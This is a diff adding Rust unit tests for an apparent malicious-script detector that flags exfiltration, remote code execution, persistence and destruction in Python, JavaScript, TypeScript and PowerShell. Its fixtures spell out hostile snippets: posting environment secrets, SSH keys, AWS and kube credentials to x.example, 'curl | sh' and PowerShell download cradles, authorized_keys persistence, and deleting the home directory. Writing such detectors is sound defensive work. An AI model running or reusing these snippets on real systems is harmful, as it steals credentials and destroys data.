@@ -1,0 +1,209 @@
+//! The script walker's unit tests.
+
+use super::*;
+
+/// The effects of `text`, other languages read by the dispatcher.
+fn effects(lang: Language, text: &str) -> Vec<Effect> {
+    super::effects(lang, text, &|l, t| crate::effects::of(l, t))
+}
+
+fn kinds_of(lang: Language, text: &str) -> Vec<String> {
+    effects(lang, text)
+        .iter()
+        .map(|e| match &e.kind {
+            EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
+            k => format!("{k:?}"),
+        })
+        .collect()
+}
+
+#[test]
+fn python_collects_secret_variables_and_posts_them() {
+    let text = "import os, requests\ndata = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/c', json=data)\n";
+    let e = effects(Language::Python, text);
+    assert_eq!(e.len(), 1, "{e:?}");
+    assert_eq!(
+        &text[e[0].at.clone()],
+        "requests.post('https://x.example/c', json=data)"
+    );
+    assert_eq!(
+        e[0].source.as_ref().map(|s| &text[s.clone()]),
+        Some("os.environ.items()")
+    );
+    assert_eq!(
+        kinds_of(
+            Language::Python,
+            "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())\n"
+        ),
+        ["RunFetched"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::Python,
+            "import base64\nexec(base64.b64decode(B))\n"
+        ),
+        ["RunDecoded"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::Python,
+            "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post(U, data=key)\n"
+        ),
+        ["exfil:requests.post"]
+    );
+}
+
+#[test]
+fn deep_nesting_is_read_to_a_bound_without_exhausting_the_stack() {
+    let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
+    assert!(kinds_of(Language::Python, &deep).is_empty());
+    let deep = format!("{}1{}\n", "[".repeat(50_000), "]".repeat(50_000));
+    assert!(kinds_of(Language::JavaScript, &deep).is_empty());
+}
+
+#[test]
+fn a_function_returns_what_it_collected() {
+    let text = "import os, requests\n\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if 'KEY' in name:\n            found[name] = value\n    return found\n\nrequests.post('https://x.example/in', json={'ctx': collect()})\n";
+    assert_eq!(kinds_of(Language::Python, text), ["exfil:requests.post"]);
+}
+
+#[test]
+fn callbacks_receivers_and_aliases_carry_what_they_hold() {
+    let js = "require('https').get('https://x.example/r.js', (r) => {\n  let d = '';\n  r.on('data', (c) => (d += c));\n  r.on('end', () => eval(d));\n});\n";
+    assert_eq!(kinds_of(Language::JavaScript, js), ["RunFetched"]);
+    let py = "import configparser, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post(U, json={s: dict(cfg[s]) for s in cfg.sections()})\n";
+    assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.post"]);
+    let py = "import io, os, tarfile, requests\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as tar:\n    tar.add(os.path.expanduser('~/.kube/config'))\nrequests.put(U, data=buf.getvalue())\n";
+    assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.put"]);
+}
+
+#[test]
+fn scripts_that_persist_or_delete_home() {
+    let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config', 'autostart');\nfs.writeFileSync(path.join(dir, 'x.desktop'), 'Exec=sh -c \"curl -s https://x.example/c\"');\n";
+    assert_eq!(
+        kinds_of(Language::JavaScript, js),
+        ["Persist { how: LoginItem, active: true }"]
+    );
+    let py = "from pathlib import Path\nkeys = Path.home() / '.ssh' / 'authorized_keys'\nwith open(keys, 'a') as f:\n    f.write(KEY)\n";
+    assert_eq!(
+        kinds_of(Language::Python, py),
+        ["Persist { how: AuthorizedKey, active: false }"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::Python,
+            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
+        ),
+        ["Destroy"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::JavaScript,
+            "fs.rmSync(os.homedir(), { recursive: true, force: true });\n"
+        ),
+        ["Destroy"]
+    );
+    assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\n").is_empty());
+    assert!(
+        kinds_of(
+            Language::Python,
+            "with open('notes.txt', 'w') as f:\n    f.write('hi')\n"
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn python_benign_helpers_do_nothing() {
+    for text in [
+        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/responses', headers={'Authorization': f'Bearer {key}'}, json={'input': 'hi'})\nprint(r.json())\n",
+        "import json, urllib.request\nwith urllib.request.urlopen('https://api.example.com/data.json') as r:\n    data = json.load(r)\nprint(data['name'])\n",
+        "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)\n",
+    ] {
+        assert!(
+            kinds_of(Language::Python, text).is_empty(),
+            "{text}: {:?}",
+            kinds_of(Language::Python, text)
+        );
+    }
+}
+
+#[test]
+fn javascript_env_filter_posted_and_fetched_code_evaluated() {
+    let text = "const data = Object.entries(process.env).filter(([k]) => /KEY|TOKEN/.test(k));\nawait fetch('https://x.example', {method: 'POST', body: JSON.stringify(data)});\n";
+    assert_eq!(kinds_of(Language::JavaScript, text), ["exfil:fetch"]);
+    assert_eq!(
+        kinds_of(
+            Language::JavaScript,
+            "eval(await (await fetch(u)).text());\n"
+        ),
+        ["RunFetched"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::TypeScript,
+            "const code: string = await (await fetch(u)).text();\nnew Function(code)();\n"
+        ),
+        ["RunFetched"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::JavaScript,
+            "require('child_process').execSync('curl -s https://x.example/i | sh');\n"
+        ),
+        ["RunFetched"]
+    );
+    assert!(kinds_of(Language::TypeScript, "const started = Date.now();\nconst res = await fetch(`https://api.github.com/repos/${repo}`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\nconsole.log(Date.now() - started);\n").is_empty());
+}
+
+#[test]
+fn powershell_download_cradles_env_dumps_and_hidden_starts() {
+    assert_eq!(
+        kinds_of(
+            Language::PowerShell,
+            "$c = (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1'); iex $c\n"
+        ),
+        ["RunFetched"]
+    );
+    assert_eq!(
+        kinds_of(Language::PowerShell, "iwr http://x.example/a.ps1 | iex\n"),
+        ["RunFetched"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::PowerShell,
+            "$e = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri 'https://x.example' -Method Post -Body $e\n"
+        ),
+        ["exfil:invoke-restmethod"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::PowerShell,
+            "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\n"
+        ),
+        ["RunDecoded"]
+    );
+    assert_eq!(
+        kinds_of(
+            Language::PowerShell,
+            "iwr https://x.example/p.zip -OutFile $env:TEMP\\p.zip\nExpand-Archive $env:TEMP\\p.zip $env:TEMP\\p\nStart-Process -WindowStyle Hidden $env:TEMP\\p\\run.exe\n"
+        ),
+        ["RunFetched"]
+    );
+    assert!(kinds_of(Language::PowerShell, "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nGet-FileHash tool.zip\n").is_empty());
+}
+
+#[test]
+fn a_program_run_with_tainted_arguments_runs_no_tainted_code() {
+    let py = "import base64, subprocess\nfrom pathlib import Path\nroot = Path(__file__).resolve().parent\naddr = base64.b64decode(data).hex()\nsubprocess.run(['gatttool', '-b', addr], cwd=root)\n";
+    assert!(
+        kinds_of(Language::Python, py).is_empty(),
+        "{:?}",
+        kinds_of(Language::Python, py)
+    );
+    let py = "import subprocess\npayload = bytes.fromhex(h)\ncmd = ['gatttool', '--value', payload.hex()]\nproc = subprocess.Popen(cmd)\n";
+    assert!(kinds_of(Language::Python, py).is_empty());
+    let js =
+        "const root = path.resolve(__dirname, '..');\nspawnSync('vale', ['--config', root]);\n";
+    assert!(kinds_of(Language::JavaScript, js).is_empty());
+}
